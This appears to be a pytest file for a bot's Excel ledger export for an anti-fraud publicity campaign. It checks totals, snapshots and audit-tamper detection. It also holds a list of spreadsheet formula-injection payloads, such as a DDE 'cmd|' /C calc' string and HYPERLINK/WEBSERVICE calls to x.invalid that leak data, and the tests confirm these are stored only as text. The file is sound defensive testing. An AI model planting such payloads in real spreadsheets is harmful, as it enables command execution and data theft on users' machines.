"""The exported workbook, opened again: figures, dates, states, changes; and nothing that people wrote is a formula."""

from __future__ import annotations

import io
import itertools
import re
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from bot.render import xlsx
from bot.render.ledger_book import RECORDS
from models.ledger import ReportKind
from models.people import Org, Person
from models.session import Database, connect
from tests.records.books import DAY, Ledger, line, sheets, values

CITY, COUNTY, OTHER = "长沙市公安局", "长沙县公安局", "株洲市公安局"


@pytest.fixture
def ledger(db: Database) -> Ledger:
    """Return a ledger with an office, two cities and a county."""
    made = Ledger(db)
    office = ("省联席办", "office", None)
    made.people(office, (CITY, "city", "省联席办"), (COUNTY, "county", CITY), (OTHER, "city", "省联席办"))
    return made


@pytest.fixture
def busy(ledger: Ledger) -> Ledger:
    """Return it with reports, a correction and an undo."""
    first = [line("handbook", "500"), line("visit", "2", "社区"), line("fans", "1200", "抖音")]
    ledger.report(CITY, first, "手册500本，进社区2次，抖音粉丝1200")
    ledger.report(
        CITY, [line("handbook", "560")], "手册应为560", kind=ReportKind.CORRECTION, cancels=[1], about=1, minutes=5
    )
    total = line("handbook", "40", stated="600", cumulative=True, approx=True, as_written="累计600余册")
    ledger.report(CITY, [total, line("fans", "1500", "抖音")], "累计手册600余册", minutes=10)
    ledger.report(OTHER, [line("banner", "7")], minutes=20)
    ledger.report(OTHER, [], "撤销", kind=ReportKind.UNDO, cancels=[4], about=4, minutes=25)
    ledger.report(COUNTY, [line("loss", "3.25"), line("duty:summary", "1"), line("nothing", "0")], minutes=30)
    return ledger


def test_ledger_sheet(busy: Ledger) -> None:
    """Every figure is a line with its number, who, when, what became of it and by which report, and the text."""
    rows = values(sheets(busy.book())["明细"])
    assert rows[0] == [column.title for column in RECORDS]
    at = datetime(2021, 5, 11, 9, 0)  # noqa: DTZ001  # a cell has no zone: it is the campaign's wall clock
    day = datetime.combine(DAY, datetime.min.time())
    assert rows[1] == [
        *(1, CITY, "王芳", day, at, "宣传手册", None, 500, 500, "册", None, None, "已更正", 2, "上报", None, None),
        "手册500本，进社区2次，抖音粉丝1200",
    ]
    states = [(row[0], row[5], row[7], row[8], row[10], row[11], row[12], row[13], row[15]) for row in rows[1:]]
    assert states[3:] == [
        (2, "宣传手册", 560, 560, None, None, "计入", None, 1),
        (3, "宣传手册", 40, 600, "约", "累计", "计入", None, None),
        (3, "抖音关注", 1500, 1500, None, None, "计入", None, None),
        (4, "横幅标语", 7, 7, None, None, "已撤销", 5, None),
        (6, rows[8][5], 3.25, 3.25, None, None, "计入", None, None),
        (6, "宣传月工作总结（登记完成）", None, None, None, None, "计入", None, None),
        (6, "没有新增", None, None, None, None, "计入", None, None),
    ]


def test_summary_sheet(busy: Ledger) -> None:
    """Totals are numbers with a formula over the ledger beside those that add up; duties say who has done them."""
    rows = values(sheets(busy.book())["汇总"])
    assert rows[0] == ["打击治理电信网络诈骗犯罪集中宣传月 台账（全部单位）"]
    assert rows[1] == ["数据截至2021年5月12日 09:00，以后的上报和更正不在内"]
    assert re.fullmatch(r"改动记录已逐条核对，前后一致（校验码[0-9a-f]{12}）", rows[2][0])
    handbook = next(row for row in rows if row[:1] == ["宣传手册"])
    number = rows.index(handbook) + 1
    assert handbook == [
        *("宣传手册", 600, "册"),
        f"=SUMIFS('明细'!$H:$H,'明细'!$F:$F,A{number},'明细'!$M:$M,\"计入\")",
        *(1, 2, "累加"),
    ]
    fans = next(row for row in rows if row[:1] == ["抖音关注"])
    assert fans[1:] == [1500, "人", None, 1, 1, "取最新"]
    assert not any(row[:1] == ["横幅标语"] for row in rows)  # undone: nothing of it counts
    summary = next(row for row in rows if row[:2] == ["宣传月工作总结", "全程"])
    assert summary[2:7] == [2, 0, 0, 2, 0]


def test_sheet_by_org(busy: Ledger) -> None:
    """Each org is a line, also who has reported nothing; an empty cell is no report; the last line adds up."""
    rows = values(sheets(busy.book())["按单位"])
    assert rows[0][:5] == ["单位", "类别", "上级单位", "上报条数", "最近上报"]
    column = rows[0].index("宣传手册（册）")
    by_name = {row[0]: row for row in rows}
    assert by_name[CITY][column] == 600
    assert by_name["省联席办"][2:] == [None, 0]
    assert by_name[OTHER][3:] == [0]
    assert by_name["合计"][column] == 600
    assert by_name["合计"][3] == 3


def test_changes_sheet(busy: Ledger) -> None:
    """Every change stands in words with the whole message and the start of its hash."""
    rows = values(sheets(busy.book())["改动"])
    assert rows[1][:6] == [1, datetime(2021, 5, 11, 9, 0), "王芳", CITY, "上报", "#1"]  # noqa: DTZ001  # as above
    assert rows[1][6:8] == [None, "宣传手册500册，进社区2次，抖音关注1,200人"]
    assert rows[1][8] == "手册500本，进社区2次，抖音粉丝1200"
    assert re.fullmatch("[0-9a-f]{12}", rows[1][9])


def test_only_some_orgs(busy: Ledger) -> None:
    """An org's workbook holds it and those under it, on every sheet, and says so."""
    found = sheets(busy.book([CITY]))
    assert {row[1] for row in values(found["明细"])[1:]} == {CITY, COUNTY}
    assert {row[0] for row in values(found["按单位"])[1:]} == {CITY, COUNTY, "合计"}
    assert {row[3] for row in values(found["改动"])[1:]} == {CITY, COUNTY}
    assert values(found["汇总"])[0] == [f"打击治理电信网络诈骗犯罪集中宣传月 台账（{CITY}及下属单位）"]


def test_a_snapshot_stays(busy: Ledger) -> None:
    """A workbook made later shows the moment at which it was asked for, byte for byte the same."""
    shot = busy.shot()
    before = busy.book(shot=shot)
    busy.report(CITY, [line("handbook", "9")], minutes=60)
    busy.report(CITY, [line("handbook", "1")], kind=ReportKind.CORRECTION, cancels=[3], about=3, minutes=61)
    again = busy.book(shot=shot)
    assert values(sheets(again)["明细"]) == values(sheets(before)["明细"])
    assert values(sheets(again)["按单位"]) == values(sheets(before)["按单位"])
    unchanged = busy.shot()
    assert busy.book(shot=unchanged) == busy.book(shot=unchanged)
    assert again != busy.book(shot=unchanged)


def test_shape(busy: Ledger) -> None:
    """Headings stay in view, lists have a filter, columns have widths, dates and figures their formats."""
    book = load_workbook(io.BytesIO(busy.book()))
    assert book.sheetnames == ["汇总", "按单位", "明细", "改动"]
    for name, freeze in (("汇总", "A6"), ("按单位", "B2"), ("明细", "B2"), ("改动", "A2")):
        assert book[name].freeze_panes == freeze
    assert book["明细"].auto_filter.ref == "A1:R11"
    assert book["改动"].auto_filter.ref == "A1:J7"
    assert book["明细"].column_dimensions["R"].width == 60
    first = book["明细"][2]
    assert [first[3].number_format, first[4].number_format] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
    assert [book["明细"]["H2"].number_format, book["明细"]["H9"].number_format] == ["#,##0", "#,##0.0#####"]
    assert book["明细"]["A1"].font.b


def test_empty_ledger(ledger: Ledger) -> None:
    """A campaign in which nobody has reported yet has a workbook that opens."""
    found = sheets(ledger.book())
    assert len(found["明细"]) == 1
    assert values(found["汇总"])[2] == ["还没有改动记录"]


def test_a_broken_chain_is_said(busy: Ledger) -> None:
    """Somebody who changed the audit behind the bot's back is told of on the first sheet."""
    with busy.db.engine.begin() as connection:
        if busy.db.engine.dialect.name == "sqlite":
            connection.exec_driver_sql("DROP TRIGGER audit_keep_update")
        else:
            connection.exec_driver_sql("SET session_replication_role = replica")
        connection.exec_driver_sql("UPDATE audit SET subject = 'report:9' WHERE id = 3")
        if busy.db.engine.dialect.name != "sqlite":
            connection.exec_driver_sql("SET session_replication_role = origin")
    told = values(sheets(busy.book())["汇总"])[2][0]
    assert told.startswith("改动记录核对有误：从第3条起")


@pytest.mark.parametrize(
    ("figure", "exact"),
    [
        ("0", True),
        ("12500", True),
        ("-3", True),
        ("0.000001", True),
        ("0.1", True),
        ("1234567.654321", True),
        ("999999999999", True),
        ("123456789.123456", True),
        ("999999999.999999", True),
        ("9999999999.999999", False),
        ("999999999999.999999", False),
    ],
)
def test_figures_are_exact(ledger: Ledger, figure: str, exact: bool) -> None:
    """A figure comes back as it was; one that Excel's 15 digits cannot hold is written out as text, not rounded."""
    ledger.report(CITY, [line("loss", figure)])
    cell = sheets(ledger.book())["明细"][1][7]
    assert cell.data_type == ("n" if exact else "s")
    assert Decimal(str(cell.value)) == Decimal(figure)


PREFIXES = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "　=", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", "'=", '"='),
    *("==", "=-", "|", "%", "=\u0000", "\u202e=", "﹢", "﹣"),
)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "SUM(1:1048576)",
    'WEBSERVICE("http://x.invalid/")',
    "IMPORTXML(A1,1)",
    "DDE(1)",
    "A1",
    "手册500册",
    "{=1}",
    "-2+3",
    "#REF!",
    "<f>1</f>",
)
PLAIN = (
    *("#N/A", "#REF!", "TRUE", "2021-05-11", "00123", "1E5", "_x0041_", "", "]]>", "<v>1</v>", "😀手册"),
    *("\ud800", "\ufffe"),
)
PAYLOADS = [prefix + body for prefix, body in itertools.product(PREFIXES, BODIES)] + list(PLAIN)


def as_kept(text: str) -> str | None:
    """Return what a cell can hold of a text."""
    return xlsx.clean(text) or None


def test_nothing_written_is_a_formula(sqlite_url: str) -> None:
    """Of 300 and more texts that begin like formulas, each stays the text it is, wherever it stands."""
    assert len(PAYLOADS) >= 300
    ledger = Ledger(Database(connect(sqlite_url)))
    ledger.people(("省联席办", "office", None), ("=1+1", "city", "省联席办"), ("@市", "city", "省联席办"))
    with ledger.db.begin() as session:
        session.get_one(Person, 1).name = "=cmd|'/C calc'!A0"
        assert session.get_one(Org, 2).name == "=1+1"
    storable = [text for text in PAYLOADS if not any("\ud800" <= char <= "\udfff" or char == "\0" for char in text)]
    for text in storable:
        ledger.report("=1+1", [line("handbook", "1", part=text[:40], as_written=text)], text)
    data = ledger.book()
    ledger.db.dispose()
    found = sheets(data)
    formulas = [
        (name, cell.coordinate) for name, rows in found.items() for row in rows for cell in row if cell.data_type == "f"
    ]
    assert {name for name, _ in formulas} == {"汇总"}
    assert {re.sub(r"\d", "", where) for _, where in formulas} == {"D"}
    for text, row in zip(storable, found["明细"][1:], strict=True):
        for cell in (row[16], row[17]):
            check_text(cell, text)
        check_text(row[1], "=1+1")
        check_text(row[2], "=cmd|'/C calc'!A0")
    for text, row in zip(storable, found["改动"][1:], strict=True):
        check_text(row[8], text)
    parts = zipfile.ZipFile(io.BytesIO(data))
    for name in ("sheet2", "sheet3", "sheet4"):
        assert b"<f>" not in parts.read(f"xl/worksheets/{name}.xml").replace(b"&lt;f&gt;", b"")


def check_text(cell: Any, text: str) -> None:
    """See that a cell holds a text as it is, and is marked when it looks like a formula."""
    kept = as_kept(text)
    read = cell.value.replace("\r\n", "\n") if isinstance(cell.value, str) else cell.value
    assert read == kept
    assert kept is None or cell.data_type == "s"
    if kept and xlsx.looks_like_formula(kept):
        assert cell.quotePrefix


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_each_payload(text: str) -> None:
    """What begins like a formula is known as such, also in full width and behind what is invisible; XML can hold it."""
    kept = xlsx.clean(text)
    assert ILLEGAL_CHARACTERS_RE.search(kept) is None
    kept.encode()
    if text not in PLAIN and text[0] not in "'\"":
        assert xlsx.looks_like_formula(kept)


@pytest.mark.parametrize("text", ["手册500册", "今天发放手册=500", "1+1", "5-3", "长沙@株洲", "“=”号", "100%", ""])
def test_ordinary_texts(text: str) -> None:
    """A text that only holds such a character is not marked."""
    assert not xlsx.looks_like_formula(text)
